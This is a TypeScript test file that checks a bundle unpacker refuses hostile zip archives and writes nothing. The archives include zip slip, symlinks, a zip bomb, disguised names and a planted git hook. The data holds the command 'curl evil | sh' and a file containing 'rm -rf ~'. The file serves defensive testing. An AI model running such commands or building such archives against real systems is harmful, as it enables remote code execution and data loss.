import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { MANIFEST_FILE } from '../api/bundle-schemas';
import { DEFAULT_BUNDLE_LIMITS } from './bundle-limits';
import { honestEntries, honestManifest, rawZip, type RawEntry } from './test-support/raw-zip';
import { unpackBundle } from './unpack-bundle';

const RESUME = '{"name":"ada"}';
const small = { ...DEFAULT_BUNDLE_LIMITS, fileBytes: 1024 * 1024, totalBytes: 1536 * 1024 };

/** Each bundle is built here, in the test, from the bytes up: no binary fixtures. */
const HOSTILE: { what: string; entries: () => RawEntry[]; reason: RegExp }[] = [
  {
    what: 'zip slip (../)',
    entries: () => honestEntries({ 'agents/ada/resume.json': RESUME, '../escaped.txt': 'x' }),
    reason: /"\.\.\/escaped\.txt" leads out of the folder/,
  },
  {
    what: 'zip slip hidden in the middle of a path',
    entries: () => honestEntries({ 'agents/ada/../../../escaped.txt': 'x' }),
    reason: /leads out of the folder/,
  },
  {
    what: 'an absolute path',
    entries: () => honestEntries({ '/etc/cron.d/evil': 'x' }),
    reason: /"\/etc\/cron\.d\/evil" is an absolute path/,
  },
  {
    what: 'a Windows drive path',
    entries: () => honestEntries({ 'C:\\Windows\\evil.bat': 'x' }),
    reason: /is an absolute path \(a drive letter\)/,
  },
  {
    what: 'a UNC path',
    entries: () => honestEntries({ '\\\\server\\share\\evil': 'x' }),
    reason: /is an absolute path \(a network share\)/,
  },
  {
    what: 'a backslash that becomes a folder on Windows',
    entries: () => honestEntries({ 'agents\\..\\..\\evil': 'x' }),
    reason: /has a backslash/,
  },
  {
    what: 'a symbolic link',
    entries: () => [
      ...honestEntries({ 'agents/ada/resume.json': RESUME }),
      { name: 'agents/ada/workspace', data: '/etc', mode: 0o120777 },
    ],
    reason: /"agents\/ada\/workspace" is a symbolic link/,
  },
  {
    what: 'a character device',
    entries: () => [...honestEntries({}), { name: 'agents/ada/tty', mode: 0o020666 }],
    reason: /"agents\/ada\/tty" is a device or special file/,
  },
  {
    what: 'a named pipe',
    entries: () => [...honestEntries({}), { name: 'agents/ada/pipe', mode: 0o010644 }],
    reason: /is a device or special file/,
  },
  {
    what: 'names that differ only by case',
    entries: () => honestEntries({ 'agents/Ada/resume.json': RESUME, 'agents/ada/resume.json': RESUME }),
    reason: /would be one file on some computers/,
  },
  {
    what: 'names that differ only by Unicode form',
    entries: () =>
      honestEntries({ 'agents/caf\u00e9/resume.json': RESUME, 'agents/cafe\u0301/resume.json': RESUME }),
    reason: /would be one file on some computers/,
  },
  {
    what: 'the same entry twice',
    entries: () => [
      ...honestEntries({ 'agents/ada/resume.json': RESUME }),
      { name: 'agents/ada/resume.json', data: '{}' },
    ],
    reason: /"agents\/ada\/resume\.json" is in the bundle twice/,
  },
  {
    what: 'a file declaring 10 GB',
    entries: () => [
      ...honestEntries({}),
      { name: 'shared/huge.bin', data: 'tiny', deflate: true, declaredSize: 10 * 1024 ** 3 },
    ],
    reason: /"shared\/huge\.bin" says it is 10 GB; a file in a bundle may be at most 64 MB/,
  },
  {
    what: 'a zip bomb (inflates far past what it declares)',
    entries: () => {
      const bomb = Buffer.alloc(8 * 1024 * 1024);
      const manifest = honestManifest(
        {},
        { files: [{ path: 'shared/bomb', size: 100, sha256: '0'.repeat(64) }] },
      );
      return [
        { name: 'shared/bomb', data: bomb, deflate: true, declaredSize: 100 },
        { name: MANIFEST_FILE, data: JSON.stringify(manifest) },
      ];
    },
    reason: /"shared\/bomb" inflates to more than it declares/,
  },
  {
    what: 'files adding up past the total limit',
    entries: () => honestEntries({ 'shared/a': 'a'.repeat(900 * 1024), 'shared/b': 'b'.repeat(900 * 1024) }),
    reason: /add up to more than the 1\.5 MB a bundle may hold/,
  },
  {
    what: 'a checksum that does not match',
    entries: () => [
      { name: 'agents/ada/resume.json', data: '{"name":"eve"}' },
      {
        name: MANIFEST_FILE,
        data: JSON.stringify(honestManifest({ 'agents/ada/resume.json': '{"name":"ada"}' })),
      },
    ],
    reason: /"agents\/ada\/resume\.json" does not match its checksum/,
  },
  {
    what: 'no manifest',
    entries: () => [{ name: 'agents/ada/resume.json', data: RESUME }],
    reason: /it has no manifest\.json/,
  },
  {
    what: 'a manifest that leaves a file out',
    entries: () => [
      ...honestEntries({ 'agents/ada/resume.json': RESUME }),
      { name: 'agents/ada/extra.sh', data: 'rm -rf ~' },
    ],
    reason: /"agents\/ada\/extra\.sh" is in the bundle but not in its manifest/,
  },
  {
    what: 'a manifest listing a file that is not there',
    entries: () => [
      { name: MANIFEST_FILE, data: JSON.stringify(honestManifest({ 'agents/ada/resume.json': RESUME })) },
    ],
    reason: /the manifest lists "agents\/ada\/resume\.json", which is not in the bundle/,
  },
  {
    what: 'an unknown format version',
    entries: () => honestEntries({}, { ...honestManifest({}), formatVersion: 99 as 1 }),
    reason: /it is bundle format version 99; this app reads version 1/,
  },
  {
    what: 'a stored entry whose declared sizes disagree',
    entries: () => [...honestEntries({}), { name: 'shared/odd', data: 'tiny', declaredSize: 4096 }],
    reason: /declared sizes do not agree/,
  },
  {
    what: 'an encrypted entry',
    entries: () => [...honestEntries({}), { name: 'shared/secret', data: 'x', deflate: true, flags: 0x1 }],
    reason: /"shared\/secret" is encrypted/,
  },
  {
    what: 'a file that is also a folder',
    entries: () => honestEntries({ 'agents/ada': 'x', 'agents/ada/resume.json': RESUME }),
    reason: /"agents\/ada" is both a file and a folder/,
  },
  {
    what: 'a name that reads backwards on screen',
    entries: () => honestEntries({ 'shared/report\u202egnp.sh': 'x' }),
    reason: /"shared\/report\\u\{202e\}gnp\.sh" has a control or text-direction character/,
  },
  {
    what: 'run state planted for the engine to read',
    entries: () => honestEntries({ 'agents/ada/resume.json': RESUME, '.lemming/journal.json': '[]' }),
    reason: /"\.lemming\/journal\.json" is run state of another computer/,
  },
  {
    what: 'a git hook that would run on the person’s next commit',
    entries: () => honestEntries({ '.git/hooks/pre-commit': '#!/bin/sh\ncurl evil | sh' }),
    reason: /"\.git\/hooks\/pre-commit" is version-control data/,
  },
  {
    what: 'not a zip at all',
    entries: () => [],
    reason: /not a zip file this app can read/,
  },
];

function listing(folder: string): string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .map((entry) => `${join(entry.parentPath, entry.name)}${entry.isDirectory() ? '/' : ''}`)
    .sort();
}

describe('a hostile bundle', () => {
  let root: string;
  beforeEach(() => {
    root = mkdtempSync(join(tmpdir(), 'lemming-hostile-'));
    mkdirSync(join(root, 'home', 'existing'), { recursive: true });
    writeFileSync(join(root, 'home', 'existing', 'keep.txt'), 'keep');
  });
  afterEach(() => rmSync(root, { recursive: true, force: true }));

  it.each(HOSTILE)(
    'is refused with its reason and writes nothing: $what',
    async ({ entries, reason, what }) => {
      const bundle = join(root, 'hostile.lemming.zip');
      writeFileSync(bundle, what === 'not a zip at all' ? 'PK\u0003\u0004 not really' : rawZip(entries()));
      const home = join(root, 'home');
      const before = listing(home);
      const limits = what.includes('total limit') ? small : DEFAULT_BUNDLE_LIMITS;

      const asNew = await unpackBundle(bundle, { kind: 'new', folder: join(home, 'imported') }, limits);
      const intoExisting = await unpackBundle(
        bundle,
        { kind: 'into', folder: join(home, 'existing') },
        limits,
      );

      expect(asNew.ok ? 'imported' : asNew.error.reason).toMatch(reason);
      expect(intoExisting.ok ? 'imported' : intoExisting.error.reason).toMatch(reason);
      expect(listing(home)).toEqual(before);
    },
  );

  it('that is honest unpacks (the corpus fails for its faults, not for the way it is built)', async () => {
    const bundle = join(root, 'honest.lemming.zip');
    writeFileSync(bundle, rawZip(honestEntries({ 'agents/ada/resume.json': RESUME })));
    const unpacked = await unpackBundle(bundle, { kind: 'new', folder: join(root, 'home', 'imported') });
    expect(unpacked.ok).toBe(true);
    expect(listing(join(root, 'home', 'imported')).map((path) => path.slice(root.length))).toEqual([
      '/home/imported/agents/',
      '/home/imported/agents/ada/',
      '/home/imported/agents/ada/resume.json',
    ]);
  });

  it('into an org that has the same agent is refused with the clash, and nothing is overwritten', async () => {
    const bundle = join(root, 'clash.lemming.zip');
    writeFileSync(bundle, rawZip(honestEntries({ 'agents/existing_agent/resume.json': RESUME })));
    mkdirSync(join(root, 'home', 'existing', 'agents', 'existing_agent'), { recursive: true });
    writeFileSync(join(root, 'home', 'existing', 'agents', 'existing_agent', 'resume.json'), 'mine');
    const before = listing(join(root, 'home'));

    const unpacked = await unpackBundle(bundle, { kind: 'into', folder: join(root, 'home', 'existing') });

    expect(unpacked.ok ? null : unpacked.error.clashes).toEqual(['agents/existing_agent']);
    expect(listing(join(root, 'home'))).toEqual(before);
  });
});
